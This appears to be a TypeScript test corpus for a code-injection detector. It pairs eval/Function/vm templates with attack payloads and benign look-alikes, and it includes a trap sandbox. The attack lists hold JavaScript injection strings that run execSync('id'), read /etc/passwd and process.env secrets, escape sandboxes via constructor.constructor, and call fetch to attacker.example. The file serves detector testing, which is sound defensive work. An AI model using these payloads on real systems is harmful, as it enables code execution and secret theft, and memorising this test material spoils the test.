/**
 * Code-injection corpus: sources an app builds for `new Function`, indirect
 * eval or `vm`, with the untrusted input concatenated where `§` marks it.
 */
import * as vm from 'node:vm';
import type { EvalResource, TaintInput } from '../../../lib/types';
import { charsOf } from '../../../lib/taint/decode';

export interface CodeCase {
  name: string;
  resource: EvalResource;
  inputs: TaintInput[];
}

export function input(value: string, decoding: string[] = [], source = 'query.expr'): TaintInput {
  // With the character classes extraction sets, so the detectors' pre-filters are judged too.
  return { source, value, decoding, chars: charsOf(value) };
}

export const TEMPLATES = {
  calc: 'return §',
  paren: 'return (§);',
  assign: 'var a = §; return a * 2;',
  withMath: 'with (Math) { return §; }',
  vm: 'result = §',
  single: "return '§';",
  double: 'return "§";',
  template: 'return `Hello §!`;',
  prop: 'return data.§;',
} as const;

type TemplateName = keyof typeof TEMPLATES;

export function codeCase(template: TemplateName, x: string | TaintInput, extra: TaintInput[] = []): CodeCase {
  const i = typeof x === 'string' ? input(x) : x;
  const via = template === 'vm' ? 'vm.runInNewContext' : 'Function';
  return {
    name: `${template}: ${JSON.stringify(TEMPLATES[template])} ← ${JSON.stringify(i.value)}`,
    resource: { source: TEMPLATES[template].split('§').join(i.value), via },
    inputs: [...extra, i],
  };
}

/**
 * Ground truth for the code check: a vm context whose `process`, `require`, `fetch`, `setTimeout`, `f` and
 * `alert` are traps, beside the plain variables the templates read. The returned function runs a source as a
 * function body there and says whether it reached a trap (syntax errors and traps end the run alike). `fresh`
 * builds a context per run, so a source that reassigns a global cannot change later runs; `timeout` stops
 * sources that loop (a watchdog per run, which costs most of a run's time).
 */
export function trapSandbox(opts: { fresh?: boolean; timeout?: number } = {}): (source: string) => boolean {
  const state = { touched: false };
  const trap = (): never => {
    state.touched = true;
    throw new Error('trap');
  };
  const make = (): vm.Context =>
    vm.createContext({
      data: { name: 'n', price: 1, items: [], createdAt: 0 },
      x: 3, r: 2, a: 1, b: 2, price: 1, qty: 2, discount: 0,
      require: trap, fetch: trap, setTimeout: trap, f: trap, alert: trap,
      process: new Proxy({}, { get: trap, has: trap }),
    });
  const shared = opts.fresh === true ? undefined : make();
  const run = (source: string, timeout: number | undefined): 'done' | 'timed out' => {
    state.touched = false;
    try {
      vm.runInContext(`(function(){ ${source}\n})()`, shared ?? make(), timeout !== undefined ? { timeout } : {});
    } catch (err) {
      // Syntax errors and traps end here alike; only whether a trap was touched matters.
      if ((err as { code?: unknown }).code === 'ERR_SCRIPT_EXECUTION_TIMEOUT') return 'timed out';
    }
    return 'done';
  };
  return (source) => {
    // A run cut short before it reached a trap says nothing: on a loaded machine a first run (compiling,
    // building the context) took longer than the watchdog, and the attack silently left the ground truth
    // (session 16's CI: 69 sources touched a trap instead of 70). Only a source that still runs at ten
    // times the watchdog is taken as one that never gets there (the corpus's two endless loops).
    if (run(source, opts.timeout) === 'timed out' && !state.touched && opts.timeout !== undefined) run(source, opts.timeout * 10);
    return state.touched;
  };
}

/** The evaluated source is a piece of a larger input (a formula or template parser cut it out). */
export function cutCase(whole: string, piece: string): CodeCase {
  return { name: `cut ${JSON.stringify(piece)} out of ${JSON.stringify(whole)}`, resource: { source: piece, via: 'Function' }, inputs: [input(whole, [], 'body.formula')] };
}

// ---------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------

/** Payloads for a code position (the input is the expression). */
const CODE_PAYLOADS = [
  "1;require('child_process').execSync('id')",
  "1; require('child_process').exec('touch /tmp/pwned')",
  'process.exit(1)',
  "require('fs').readFileSync('/etc/passwd','utf8')",
  "this.constructor.constructor('return process')()",
  'x.constructor("return process")()',
  '(()=>{while(1){}})()',
  "globalThis.process.mainModule.require('child_process')",
  "import('child_process')",
  "eval('1+1')",
  "Function('return this')()",
  "[].constructor.constructor('return process')()",
  "''.constructor.constructor('return process')()",
  '1, process.env',
  'process.env.SECRET',
  'new Error().stack',
  'arguments.callee',
  'Math.constructor',
  "Math.max.constructor('return process')()",
  'Object.keys(process.env)',
  '1 + (function(){ return process })()',
  'a = 1',
  'x => x',
  '\\u0070rocess.exit()',
  "fetch('http://attacker.example/')",
  'setTimeout(function(){}, 1e9)',
  'while(true){}',
  'typeof process',
  "Reflect.get(globalThis, 'process')",
  '(1).constructor',
  '1..constructor',
  "Math['max']",
  'Math.max.call(null, 1)',
  'module.exports',
  'global.x = 1',
  'delete Math.max',
  'alert`1`',
  'toString.constructor.prototype',
  '1 ?. constructor',
  'f(1)',
];

/** Payloads that break out of a single-quoted string. */
const SINGLE = [
  "'+process.exit()+'",
  "';require('child_process').execSync('id');'",
  "' + this.constructor.constructor('return process')() + '",
  "'; process.exit(); //",
  "'+require('fs').readFileSync('/etc/passwd')+'",
  "'+globalThis.process.pid+'",
  "'+(()=>process)()+'",
  "'+eval('1')+'",
  "'+x.constructor(\"return process\")()+'",
  "'+import('fs')+'",
];
const DOUBLE = SINGLE.map((p) => p.replace(/'/g, '"').replace('"return process"', "'return process'"));
const TEMPLATE = [
  '${process.exit()}',
  "${require('fs').readFileSync('/etc/passwd')}",
  "${this.constructor.constructor('return process')()}",
  '`+process.pid+`',
  '${globalThis.process.env.SECRET}',
  "${import('child_process')}",
  '${eval("1")}',
  '${a=1}',
];
const PROP = [
  'constructor.constructor("return process")()',
  'constructor',
  '__proto__',
  'x; process.exit()',
  'valueOf.call(process)',
  "toString.constructor('return process')()",
];

export const attacks: CodeCase[] = [
  ...CODE_PAYLOADS.flatMap((p) => [codeCase('calc', p), codeCase('paren', p), codeCase('vm', p)]),
  ...CODE_PAYLOADS.slice(0, 20).flatMap((p) => [codeCase('assign', p), codeCase('withMath', p)]),
  ...SINGLE.map((p) => codeCase('single', p)),
  ...DOUBLE.map((p) => codeCase('double', p)),
  ...TEMPLATE.map((p) => codeCase('template', p)),
  ...PROP.map((p) => codeCase('prop', p)),
  // Decoded forms: the base64 form of the input is what reached the source.
  codeCase('calc', input("require('child_process').execSync('id')", ['base64']), [input('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp')]),
  // Formula and expression parsers that cut the evaluated piece out of the input.
  cutCase('=SUM(A1:A3)+x.constructor("return process")()', 'x.constructor("return process")()'),
  cutCase('{{ constructor.constructor("return process")() }}', 'constructor.constructor("return process")()'),
  cutCase('calc: 1; process.exit()', '1; process.exit()'),
  cutCase('#{require("child_process").execSync("id")}', 'require("child_process").execSync("id")'),
  cutCase('=IF(1, this.process.mainModule.require("fs"), 0)', 'this.process.mainModule.require("fs")'),
  cutCase('{{ [].map.constructor("return this")() }}', '[].map.constructor("return this")()'),
  cutCase('expr=Math.max.apply(null, [1]) ', 'Math.max.apply(null, [1])'),
];

// ---------------------------------------------------------------------------
// Benign look-alikes
// ---------------------------------------------------------------------------

const ARITHMETIC = [
  '1+2',
  '(3*4)/2',
  '2**10',
  '1e3 - 5',
  '0x1f + 0b101',
  '-7 % 3',
  'Math.max(3, 4)',
  'Math.sqrt(16) + Math.PI',
  '1 < 2 && 3 > 2',
  '10 >= 9 ? 1 : 0',
  '~5 | 2',
  '1 << 4',
  '.5 + .25',
  '1_000_000 * 3',
  '(1+2)*(3+4)',
  '100n * 2n',
  'NaN',
  'Infinity - 1',
  'true || false',
  'null ?? 4',
  '"a" + "b"',
  "'abc'",
  '12.5',
  'Math.round(2.5)',
  'Math.min(1, 2, 3)',
  'Math.hypot(3, 4)',
  'x * 2',
  'price * qty - discount',
  '2 * (x + 1) / 3',
  '1 == 1',
];
const MATH_SCOPE = ['sqrt(2)', 'abs(-1) + floor(2.7)', 'PI * r * r', 'pow(2, 8)', 'max(a, b, 3)', 'sin(0) + cos(0)'];
const IN_SINGLE = [
  'it is "quoted"',
  'process.exit()',
  'constructor',
  'require("fs")',
  'hello ${name}',
  '`backticks`',
  'a + b; c = d',
  '<script>alert(1)</script>',
  'line1\\nline2',
  'x.constructor("return process")()',
  "\\'escaped\\' quotes",
  '// not a comment',
  '/* nor this */',
];
const IN_DOUBLE = ["O'Brien", "it's fine", "'+process.exit()+'", 'process', '${process.exit()}', 'C:\\\\temp', 'tab\\there', '\\"quoted\\"'];
const IN_TEMPLATE = ['world', 'process', "it's", '"quoted"', '$notsub', '{braces}', '$ {x}', 'O\'Brien "Jr"', 'a + b', '\\${escaped}'];

/** A compiled template (EJS-like) in which request values coincide with generated code. */
const COMPILED = [
  'var __output = "";',
  'function __append(s) { if (s !== undefined && s !== null) __output += s; }',
  'with (locals || {}) {',
  '  __append("<h1>");',
  '  __append(escapeFn(user.name));',
  '  __append("</h1><ul>");',
  '  for (var i = 0; i < items.length; i++) { __append("<li>" + escapeFn(items[i].title) + "</li>"); }',
  '  __append("</ul>");',
  '}',
  'return __output;',
].join('\n');
const COINCIDENCES = ['user', 'name', 'items', 'title', 'escapeFn', 'return', 'var', 'for', '{}', '[]', '()', '</h1>', '<li>', 'h1', 'new', 'with', 'locals'];

export const benign: CodeCase[] = [
  ...ARITHMETIC.flatMap((p) => [codeCase('calc', p), codeCase('paren', p), codeCase('vm', p)]),
  ...ARITHMETIC.slice(0, 10).flatMap((p) => [codeCase('assign', p), codeCase('withMath', p)]),
  ...MATH_SCOPE.map((p) => codeCase('withMath', p)),
  ...IN_SINGLE.map((p) => codeCase('single', p)),
  ...IN_DOUBLE.map((p) => codeCase('double', p)),
  ...IN_TEMPLATE.map((p) => codeCase('template', p)),
  ...['name', 'price', 'items', 'createdAt'].map((p) => codeCase('prop', p)),
  ...COINCIDENCES.map((x) => ({ name: `compiled template ← ${JSON.stringify(x)}`, resource: { source: COMPILED, via: 'Function' }, inputs: [input(x, [], 'query.q')] })),
  // Library idioms evaluated while a request is in scope, with unrelated inputs.
  { name: "Function('return this') with an unrelated input", resource: { source: 'return this', via: 'Function' }, inputs: [input('report.pdf')] },
  // Formula parsers that cut pure arithmetic out of the input.
  cutCase('=1+2*3', '1+2*3'),
  cutCase('=SUM(1,2)', '1,2'),
  cutCase('price: 4.5 * 2', '4.5 * 2'),
  cutCase('=Math.max(1, 2)', 'Math.max(1, 2)'),
];
